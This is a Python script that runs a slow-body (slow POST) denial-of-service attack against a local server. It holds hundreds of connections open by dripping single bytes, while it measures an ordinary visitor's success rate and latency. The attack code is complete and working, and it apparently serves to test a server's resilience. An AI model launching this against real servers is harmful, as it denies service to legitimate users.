#!/usr/bin/env python3
"""Slow-body attack and a patient's view of it.

Opens CONNECTIONS connections to TARGET that each announce a 100 KB form post and then send one byte every few
seconds (never long enough apart for a body timeout, never finishing), spread over 40 loopback source addresses
(127.0.0.2-41) as a botnet would be; meanwhile fetches PROBE pages one after another from 127.0.0.1, as an ordinary
visitor. Prints how many attack connections stayed open and the visitor's success rate and latency.

    slow_body.py TARGET_HOST:PORT PROBE_URL [CONNECTIONS] [SECONDS]
"""
import http.client
import socket
import sys
import threading
import time
import urllib.parse

DRIP_SECONDS = 5
ADDRESSES = 40


def attack(host, port, connections, seconds, stats):
    sockets = []
    for i in range(connections):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.bind(("127.0.0.%d" % (2 + i % ADDRESSES), 0))
            s.settimeout(5)
            s.connect((host, port))
            s.sendall(("POST /contact HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                       "Content-Length: 100000\r\n\r\nname=" % host).encode())
            sockets.append(s)
        except OSError:
            stats["refused"] += 1
    stats["opened"] = len(sockets)
    deadline = time.time() + seconds
    while time.time() < deadline:
        time.sleep(DRIP_SECONDS)
        alive = []
        for s in sockets:
            try:
                s.sendall(b"a")
                alive.append(s)
            except OSError:
                s.close()
        sockets = alive
    stats["open_at_end"] = len(sockets)
    for s in sockets:
        s.close()


def probe(url, seconds):
    parts = urllib.parse.urlsplit(url)
    latencies, failures = [], 0
    deadline = time.time() + seconds
    while time.time() < deadline:
        started = time.time()
        try:
            connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=10,
                                                    source_address=("127.0.0.1", 0))
            connection.request("GET", parts.path or "/")
            response = connection.getresponse()
            response.read()
            connection.close()
            if response.status == 200:
                latencies.append(time.time() - started)
            else:
                failures += 1
        except OSError:
            failures += 1
        time.sleep(0.05)
    return latencies, failures


def percentile(values, fraction):
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(len(ordered) * fraction))] if ordered else float("nan")


def main():
    target, url = sys.argv[1], sys.argv[2]
    connections = int(sys.argv[3]) if len(sys.argv) > 3 else 400
    seconds = int(sys.argv[4]) if len(sys.argv) > 4 else 30
    host, port = target.rsplit(":", 1)
    stats = {"refused": 0, "opened": 0, "open_at_end": 0}
    attacker = threading.Thread(target=attack, args=(host, int(port), connections, seconds, stats))
    attacker.start()
    time.sleep(3)  # let the attack connections open first
    latencies, failures = probe(url, seconds - 3)
    attacker.join()
    total = len(latencies) + failures
    print("  attack: %d slow-body connections opened (%d refused), %d still open after %ds"
          % (stats["opened"], stats["refused"], stats["open_at_end"], seconds))
    print("  visitor: %d of %d page requests succeeded (%.1f%%), p50 %.1f ms, p99 %.1f ms, max %.1f ms"
          % (len(latencies), total, 100.0 * len(latencies) / total if total else 0,
             1000 * percentile(latencies, 0.5), 1000 * percentile(latencies, 0.99),
             1000 * max(latencies) if latencies else float("nan")))


if __name__ == "__main__":
    main()
